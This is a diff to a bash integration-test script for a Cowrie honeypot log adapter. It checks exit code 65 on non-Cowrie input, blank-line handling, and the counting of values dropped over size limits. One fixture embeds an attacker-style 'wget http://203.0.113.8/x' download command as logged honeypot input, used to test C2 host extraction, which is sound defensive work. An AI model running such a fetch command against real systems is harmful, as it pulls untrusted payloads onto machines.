@@ -1,8 +1,9 @@
 #!/usr/bin/env bash
 # cowrie.sh - black-box checks of the Cowrie adapter on the real binary: `cadre ingest
-# cowrie` (plain, gzip, stdin, file order, --flush-idle, --group), and Cowrie logs replayed
-# end to end through the embedded engine (`cadre run --input cowrie`, on a fixture and on
-# one real radec73-2024 file) and through a running engine (`cadre send --input cowrie`).
+# cowrie` (plain, gzip, stdin, pipes and FIFOs, file order, --flush-idle, --group, input
+# whose every line is bad, the limits' drop counts), and Cowrie logs replayed end to end
+# through the embedded engine (`cadre run --input cowrie`, on a fixture and on one real
+# radec73-2024 file) and through a running engine (`cadre send --input cowrie`).
 # shellcheck source=tests/it/lib.sh
 source "$(dirname "$0")/lib.sh"
 # shellcheck source=tests/it/engine_lib.sh
@@ -21,6 +22,9 @@ err_has() {
     }
 }
 lines_of() { wc -l <"$1" | tr -d ' '; }
+# syslog.txt: not a Cowrie log (every line bad); blank.json: blank lines only.
+printf 'Dec  1 10:00:00 host sshd[1]: Accepted password\nnot json either\n\n' >"$TMP/syslog.txt"
+printf '\n  \n' >"$TMP/blank.json"
 
 t_ingest() {
     ingest "$SMALL" && err_has "15 lines, 1 bad, 5 sessions (7 cadre sessions), 4 observations" &&
@@ -91,9 +95,11 @@ t_send() {
     wait_until 20 health_answers "$cfg" &&
         expect_exit 0 timeout 60 "$CADRE" send --config "$cfg" --input cowrie "$SMALL" &&
         grep -q "^4 acknowledged, 0 refused, 0 unreadable, flushed at seq" "$TMP/last.out" &&
+        expect_exit 65 timeout 60 "$CADRE" send --config "$cfg" --input cowrie "$TMP/syslog.txt" &&
+        err_has "every Cowrie line is bad" && grep -q "^0 acknowledged" "$TMP/last.out" &&
         stop_engine 1
 }
-check "send --input cowrie: the fixture to a running engine" t_send
+check "send --input cowrie: the fixture to a running engine; a non-Cowrie file exits 65" t_send
 
 # Pipes, process substitutions, FIFOs and standard input: every input is opened once, so
 # they are read whole (a second open of a pipe finds it drained, of a FIFO waits forever).
@@ -165,6 +171,36 @@ t_pipe_order() {
         err_has "3050 lines, 0 bad" && cmp -s "$TMP/both.out" "$TMP/last.out"
 }
 check "ingest: pipes and stdin are ordered by their first event like files" t_pipe_order
+
+# Every line bad (not a Cowrie log at all): named, and exit 65 (EX_DATAERR), for ingest,
+# run and send alike; blank lines are neither; one bad file among good ones is named but
+# does not fail the run.
+t_all_bad() {
+    expect_exit 65 "$CADRE" ingest cowrie "$TMP/syslog.txt" &&
+        err_has "syslog.txt: every line is bad (2 of 2): not a Cowrie JSON log?" &&
+        err_has "every Cowrie line is bad (2 of 2)" &&
+        expect_exit 65 "$CADRE" ingest cowrie <(gzip -c "$TMP/syslog.txt") &&
+        expect_exit 65 "$CADRE" run --input cowrie "$TMP/syslog.txt" &&
+        err_has "every Cowrie line is bad" &&
+        expect_exit 65 "$CADRE" ingest cowrie "$SMALL" --fatt "$TMP/syslog.txt" &&
+        err_has "every fatt line is bad (2 of 2)" &&
+        ingest "$TMP/blank.json" && err_has "2 lines, 0 bad, 0 sessions" &&
+        ingest "$TMP/syslog.txt" "$SMALL" &&
+        err_has "syslog.txt: every line is bad (2 of 2)" && err_has "4 observations"
+}
+check "every line bad: named, exit 65 (ingest, run, fatt); blank or partly bad input: exit 0" \
+    t_all_bad
+
+# What the limits keep out is said per kind: a command over 64 KiB is dropped (its C2 host
+# is still kept).
+t_dropped() {
+    python3 -c 'import json; print(json.dumps({"eventid": "cowrie.command.input",
+        "src_ip": "192.0.2.99", "session": "big", "timestamp": "2024-04-01T10:00:00Z",
+        "input": "echo " + "a" * 70000 + "; wget http://203.0.113.8/x"}))' >"$TMP/long.json"
+    ingest "$TMP/long.json" && err_has "dropped over the limits (docs/cowrie.md): 1 values" &&
+        grep -q '"c2": "203.0.113.8"' "$TMP/last.out"
+}
+check "ingest: values over the limits are counted on stderr, their C2 host kept" t_dropped
 
 t_run_pipe() {
     expect_exit 0 "$CADRE" run --input cowrie <(gzip -c "$TMP/big.json") --out "$TMP/pipe.asg.jsonl" &&
